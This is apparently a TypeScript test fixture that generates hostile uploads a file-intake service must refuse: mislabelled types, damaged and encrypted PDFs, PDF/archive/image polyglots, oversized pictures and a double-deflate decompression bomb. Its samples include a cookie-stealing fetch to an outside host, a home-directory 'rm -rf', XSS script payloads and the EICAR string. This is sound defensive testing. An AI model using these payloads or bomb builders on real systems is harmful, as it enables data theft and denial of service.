import { deflateSync } from 'node:zlib'
import type { FileGroup, FileProblem } from '#shared/domain/files.ts'
import { activePdfs, letterWithProgram, namedPdfs, unreadablePdfs } from './active-pdfs.ts'
import { paddedPdf } from './good-files.ts'
import { hostileVariants, type Variant } from './hostile-variants.ts'
import { blankPng, blankProgressive, picture, withComment } from './image-pieces.ts'
import {
  handWritten,
  hybrid,
  latin1,
  linearised,
  onePage,
  withIndexStream,
  withUpdate,
  writtenPdf,
} from './pdf-pieces.ts'

export interface HostileFile {
  title: string
  fileName: string
  /** What the sender says it is; never believed. */
  declaredType: string
  accepts: FileGroup
  bytes: Buffer
  problem: FileProblem
}

/** Files that must be refused, each for its reason, and leave nothing behind. */
export async function hostileFiles(): Promise<HostileFile[]> {
  return [
    ...otherTypes(),
    ...(await damagedPdfs()),
    ...(await lockedPdfs()),
    ...(await activeDocuments()),
    ...(await doubleFaced()),
    ...(await badPictures()),
    ...tooLarge(),
    ...(await hostileVariants()).map(named),
  ]
}

function named({ title, accepts, bytes, problem }: Variant): HostileFile {
  return accepts === 'image' ? asImage(title, bytes, problem) : asPdf(title, bytes, problem)
}

const zip = latin1(`PK\x03\x04\x14\0\0\0\0\0${'\0'.repeat(40)}PK\x05\x06${'\0'.repeat(18)}`)
const html = '<!doctype html><title>x</title><script>alert(1)</script>'

function otherTypes(): HostileFile[] {
  const type = (title: string, content: string | Buffer, problem: FileProblem = 'not-accepted-type') =>
    asPdf(`${title} named .pdf`, typeof content === 'string' ? latin1(content) : content, problem)
  return [
    type('nothing', '', 'empty'),
    type('one byte', '%'),
    type('zero bytes', '\0'.repeat(5000)),
    type('blank lines', '\n'.repeat(5000)),
    type('a web page', html),
    type('a drawing with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    type('a script', 'fetch("https://example.org/"+document.cookie)'),
    type('a shell script', '#!/bin/sh\nrm -rf ~\n'),
    type('an archive', zip),
    type('a Word file', Buffer.concat([zip.subarray(0, 30), latin1('word/document.xml'), zip])),
    type('an old Word file', `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`),
    type('a Windows program', `MZ\x90\0${'\0'.repeat(200)}PE\0\0`),
    type('a Linux program', `\x7fELF\x02\x01\x01${'\0'.repeat(100)}`),
    type('a Java class', '\xca\xfe\xba\xbe\0\0\0\x34'),
    type('PostScript', '%!PS-Adobe-3.0\n%%EOF\n'),
    type('rich text', '{\\rtf1 hello}'),
    type('a half word', '%PDF'),
    type('a header without a version', '%PDF-\n%%EOF\n'),
    type('a virus test text', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-TEST'),
    type('a header behind 1,025 bytes', handWritten({ before: ' '.repeat(1025) })),
  ]
}

async function damagedPdfs(): Promise<HostileFile[]> {
  const letter = await writtenPdf('To whom it may concern')
  const whole = handWritten()
  const noRoot = latin1(whole.toString('latin1').replace('/Root 1 0 R', '/Toor 1 0 R'))
  const start = whole.toString('latin1').lastIndexOf('\nxref') + 1
  const damaged = (title: string, bytes: Buffer) => asPdf(title, bytes, 'damaged')
  return [
    damaged('a PDF cut in half', letter.subarray(0, letter.length / 2)),
    damaged('a header alone', latin1('%PDF-1.7\n')),
    damaged('a header and an end mark', latin1('%PDF-1.7\n%%EOF\n')),
    damaged('a header before a web page', latin1(`%PDF-1.7\n${html}`)),
    damaged('a header and an end mark around a web page', latin1(`%PDF-1.7\n${html}\n%%EOF`)),
    damaged('an update cut off behind the first end mark', cutUpdate()),
    damaged('a PDF without a root', noRoot),
    damaged('a PDF whose root is a number', latin1(whole.toString('latin1').replace('/Root 1 0 R', '/Root 7    '))),
    damaged('a PDF whose root is not there', latin1(whole.toString('latin1').replace('/Root 1 0 R', '/Root 8 0 R'))),
    damaged(
      'a PDF whose trailer does not end',
      latin1(whole.toString('latin1').replace(/>>\s+startxref/, '\nstartxref')),
    ),
    damaged('an index that points to itself', handWritten({ trailer: `/Prev ${start}` })),
    damaged('two indexes that point to each other', circle()),
    damaged('an older index behind the end', withUpdate(whole, { previous: 9_999_999 })),
    damaged('a web PDF cut behind its first page', linearised().subarray(0, 300)),
    damaged('an index stream without a root', latin1(withIndexStream().toString('latin1').replace('/Root 1 0 R', ''))),
    damaged('a trailer nested 5,000 deep', handWritten({ trailer: `/A ${'<</A '.repeat(5000)}1${'>>'.repeat(5000)}` })),
    damaged('a trailer of 100 KB', handWritten({ trailer: `/A (${'x'.repeat(100_000)})` })),
    asPdf(
      '600 revisions',
      Array.from({ length: 600 }).reduce<Buffer>(pdf => withUpdate(pdf), whole),
      'too-complex',
    ),
    asPdf(
      'a broken index and 600 trailers',
      handWritten({ startxref: 1, before: 'trailer '.repeat(100), bodies: [...onePage, 'trailer '.repeat(600)] }),
      'too-complex',
    ),
  ]
}

/** More than 1,024 bytes of a revision that was never finished. */
function cutUpdate(): Buffer {
  return Buffer.concat([handWritten(), latin1(`9 0 obj\n<< /Note (${'x'.repeat(1200)}`)])
}

function circle(): Buffer {
  const first = handWritten({ trailer: '/Prev 0000000000' })
  const both = withUpdate(first).toString('latin1')
  const second = both.lastIndexOf('\nxref') + 1
  return latin1(both.replace('/Prev 0000000000', `/Prev ${String(second).padStart(10, '0')}`))
}

async function lockedPdfs(): Promise<HostileFile[]> {
  const locked = (title: string, bytes: Buffer) => asPdf(title, bytes, 'encrypted')
  const versions = ['1.3', '1.4', '1.7', '1.7ext3'] as const
  const written = versions.map(async pdfVersion =>
    locked(
      `a PDF ${pdfVersion} with a password`,
      await writtenPdf('Secret', { pdfVersion, userPassword: 'a', ownerPassword: 'b' }),
    ),
  )
  return [
    ...(await Promise.all(written)),
    locked('an encrypted index stream', withIndexStream({ extra: '/Encrypt 9 0 R' })),
    locked('an encrypted older revision', withUpdate(handWritten({ trailer: '/Encrypt 9 0 R' }))),
    locked('an encrypted later revision', withUpdate(handWritten(), { trailer: '/Encrypt 9 0 R' })),
    locked('encryption in the hidden half of two indexes', hybrid({ inStream: '/Encrypt 9 0 R' })),
    locked('encryption under an escaped name', handWritten({ trailer: '/Encr#79pt 9 0 R' })),
    locked('encryption that stands twice', handWritten({ trailer: '/Encrypt 9 0 R /Encrypt null' })),
    locked('encryption behind a broken index', handWritten({ startxref: 3, trailer: '/Encrypt << /V 5 >>' })),
  ]
}

async function activeDocuments(): Promise<HostileFile[]> {
  return [
    asPdf('a letter with a program', await letterWithProgram(), 'active'),
    ...activePdfs().map(({ title, bytes }) => asPdf(`a PDF ${title}`, bytes, 'active')),
    ...[...namedPdfs(), ...unreadablePdfs()].map(({ title, bytes, problem }) => asPdf(title, bytes, problem)),
  ]
}

async function doubleFaced(): Promise<HostileFile[]> {
  const fronts = {
    'an archive': 'PK\x03\x04',
    'a web page': '<html><script>',
    'a GIF': 'GIF89a',
    'a program': 'MZ\x90\0',
    'a script': '/*',
    'a shell script': '#!/bin/sh\n',
    'blank lines and a web page': '\r\n\r\n <script>',
  }
  const photo = await picture(60, 80).jpeg().toBuffer()
  const drawing = await picture(60, 80).png().toBuffer()
  return [
    ...Object.entries(fronts).map(([title, before]) =>
      asPdf(`a PDF that starts as ${title}`, handWritten({ before }), 'not-accepted-type'),
    ),
    asPdf('a PDF that is an archive too', Buffer.concat([handWritten(), zip]), 'not-accepted-type'),
    asPdf('a PDF in an archive comment', archiveAround(handWritten()), 'not-accepted-type'),
    asImage('a photo that is an archive too', Buffer.concat([photo, zip]), 'not-accepted-type'),
    asImage('a drawing that is an archive too', Buffer.concat([drawing, zip]), 'not-accepted-type'),
    asImage('a photo that is a PDF too', withComment(photo, handWritten().toString('latin1')), 'not-accepted-type'),
    asPdf('a photo where a PDF is asked for', photo, 'not-accepted-type'),
    asPdf('a drawing where a PDF is asked for', drawing, 'not-accepted-type'),
    asImage('a PDF where a photo is asked for', handWritten(), 'not-accepted-type'),
  ]
}

/** A PDF whose last bytes are the comment of an archive directory, so that both programs read it to the end. */
function archiveAround(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1')
  const tail = text.slice(text.lastIndexOf('startxref'))
  const record = Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1')
  record.writeUInt16LE(tail.length + 1, 20)
  return Buffer.concat([latin1(text.slice(0, text.lastIndexOf('startxref'))), latin1('%'), record, latin1(`\n${tail}`)])
}

async function badPictures(): Promise<HostileFile[]> {
  const photo = await picture(300, 400).jpeg().toBuffer()
  const drawing = await picture(300, 400).png().toBuffer()
  const other = async (title: string, bytes: Promise<Buffer> | Buffer) =>
    asImage(title, await bytes, 'not-accepted-type')
  const damaged = (title: string, bytes: Buffer) => asImage(title, bytes, 'broken-picture')
  return [
    asImage('nothing named .jpg', Buffer.alloc(0), 'empty'),
    await other('a GIF', picture(60, 80).gif().toBuffer()),
    await other('a WebP picture', picture(60, 80).webp().toBuffer()),
    await other('a TIFF picture', picture(60, 80).tiff().toBuffer()),
    asImage('a photo of an iPhone', latin1(`\0\0\0\x18ftypheic${'\0'.repeat(99)}`), 'heic'),
    await other('an AVIF picture', picture(60, 80).avif().toBuffer()),
    await other('a vector drawing', latin1('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')),
    await other('a web page named .jpg', latin1(html)),
    await other('a bitmap', latin1(`BM${'\0'.repeat(60)}`)),
    damaged('three bytes of a photo', photo.subarray(0, 3)),
    damaged('a photo cut in half', photo.subarray(0, photo.length / 2)),
    damaged('a photo without its last tenth', photo.subarray(0, photo.length * 0.9)),
    damaged('a photo whose start hides a web page', Buffer.concat([photo.subarray(0, 4), latin1(html)])),
    damaged('eight bytes of a drawing', drawing.subarray(0, 8)),
    damaged('a drawing cut in half', drawing.subarray(0, drawing.length / 2)),
    damaged('a drawing with changed bytes', withNoise(drawing)),
    asImage('a drawing of 900 megapixels in 110 KB', await blankPng(30_000, 30_000), 'too-many-pixels'),
    asImage('a drawing that is very wide', await blankPng(900_000, 130), 'too-many-pixels'),
    asImage('a progressive photo of 80 megapixels', await blankProgressive(10_000, 8000), 'too-many-pixels'),
  ]
}

function withNoise(bytes: Buffer): Buffer {
  const changed = Buffer.from(bytes)
  changed.fill(0x5a, changed.length / 2, changed.length / 2 + 200)
  return changed
}

function tooLarge(): HostileFile[] {
  const limit = 5 * 1024 * 1024
  return [
    asPdf('a PDF of exactly 5 MB, where it must be under 5 MB', paddedPdf(limit), 'too-large'),
    asPdf('a PDF of 5 MB and one byte', paddedPdf(limit + 1), 'too-large'),
    asPdf('a PDF of 6 MB', paddedPdf(6 * 1024 * 1024), 'too-large'),
    asImage('5 MB and one byte named .jpg', Buffer.alloc(limit + 1, 0xff), 'too-large'),
    asPdf(
      'a stream of 20 MB packed twice, in a small PDF without an end',
      Buffer.concat([latin1('%PDF-1.7\n'), bomb()]),
      'damaged',
    ),
  ]
}

function bomb(): Buffer {
  const data = deflateSync(deflateSync(Buffer.alloc(20_000_000)))
  return Buffer.concat([
    latin1(`4 0 obj\n<< /Filter [/FlateDecode /FlateDecode] /Length ${data.length} >>\nstream\n`),
    data,
  ])
}

function asPdf(title: string, bytes: Buffer, problem: FileProblem): HostileFile {
  return { title, fileName: 'Reference.pdf', declaredType: 'application/pdf', accepts: 'pdf', bytes, problem }
}

function asImage(title: string, bytes: Buffer, problem: FileProblem): HostileFile {
  return { title, fileName: 'Passport.jpg', declaredType: 'image/jpeg', accepts: 'image', bytes, problem }
}
